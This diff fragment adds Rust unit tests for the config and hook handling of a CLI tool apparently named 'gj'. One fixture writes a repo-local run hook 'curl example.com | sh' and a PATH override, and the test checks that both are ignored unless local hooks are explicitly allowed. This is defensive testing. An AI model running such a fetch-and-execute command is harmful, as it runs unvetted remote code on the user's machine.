+        assert!(config.registered_repo_path("gone").is_err());
+
+        let err = config.registered_repo_path("other").unwrap_err().to_string();
+        assert!(err.contains("Registered: gone, my-app"), "{}", err);
+    }
+
+    #[test]
+    fn test_hook_display() {
+        let copy = Hook::Copy {
+            from: ".env.local".to_string(),
+            to: Some(".env".to_string()),
+            required: false,
+            exclude: Vec::new(),
+        };
+        assert_eq!(copy.to_string(), "copy .env.local -> .env");
+
+        let run = Hook::Run {
+            command: "npm install".to_string(),
+            timeout: None,
+        };
+        assert_eq!(run.to_string(), "run npm install");
+    }
+
+    #[test]
+    fn test_get_pre_remove_hooks() {
+        let config: Config = toml::from_str(
+            r#"
+[[default.hooks.pre_remove]]
+type = "run"
+command = "check-pushed"
+
+[repos.my-app]
+path = "/repo"
+
+[[repos.my-app.hooks.pre_remove]]
+type = "run"
+command = "check-ci"
+"#,
+        )
+        .unwrap();
+        let repo = config.repos.get("my-app");
+
+        let commands: Vec<&str> = config
+            .get_pre_remove_hooks(repo)
+            .into_iter()
+            .map(|hook| match hook {
+                Hook::Run { command, .. } => command.as_str(),
+                Hook::Copy { from, .. } => from.as_str(),
+            })
+            .collect();
+        assert_eq!(commands, ["check-pushed", "check-ci"]);
+        assert!(config.get_hooks(repo).is_empty());
+    }
+
+    #[test]
+    fn test_load_local_needs_allow_local_hooks() {
+        let temp_dir = tempfile::TempDir::new().unwrap();
+        fs::write(
+            temp_dir.path().join(".gj.toml"),
+            r#"
+prefix = "local"
+
+[hook_env]
+PATH = "./bin"
+
+[[hooks.post_create]]
+type = "run"
+command = "curl example.com | sh"
+
+[[hooks.post_create]]
+type = "copy"
+from = ".env"
+
+[[hooks.pre_remove]]
+type = "run"
+command = "true"
+"#,
+        )
+        .unwrap();
+
+        let config = Config::default();
+        let local = config.load_local(temp_dir.path()).unwrap().unwrap();
+        assert_eq!(local.prefix, Some("local".to_string()));
+        assert!(local.hook_env.is_empty());
+        assert_eq!(local.hooks.post_create.len(), 1);
+        assert!(matches!(local.hooks.post_create[0], Hook::Copy { .. }));
+        assert!(local.hooks.pre_remove.is_empty());
+
+        let config: Config = toml::from_str("[default]\nallow_local_hooks = true\n").unwrap();
+        let local = config.load_local(temp_dir.path()).unwrap().unwrap();
+        assert_eq!(local.hook_env.len(), 1);
+        assert_eq!(local.hooks.post_create.len(), 2);
+        assert_eq!(local.hooks.pre_remove.len(), 1);
+    }
+
+    #[test]
+    fn test_merge_local_absent() {
+        assert!(merge_local(None, None, Path::new("/repo")).is_none());
+    }
+
+    #[test]
+    fn test_local_config_load() {
+        let temp_dir = tempfile::TempDir::new().unwrap();
+        assert!(LocalConfig::load(temp_dir.path()).unwrap().is_none());
+
+        fs::write(temp_dir.path().join(".gj.toml"), "prefix = \"team\"\n").unwrap();
+        let local = LocalConfig::load(temp_dir.path()).unwrap().unwrap();
+        assert_eq!(local.prefix, Some("team".to_string()));
+    }
+
+    #[test]
+    fn test_auto_prune_defaults_to_false() {
+        let config: Config = toml::from_str("[default]\n").unwrap();
+        assert!(!config.default.auto_prune);
+
+        let config: Config = toml::from_str("[default]\nauto_prune = true\n").unwrap();
+        assert!(config.default.auto_prune);
+    }
+
     #[test]
     fn test_get_prefix() {
         let config: Config = toml::from_str(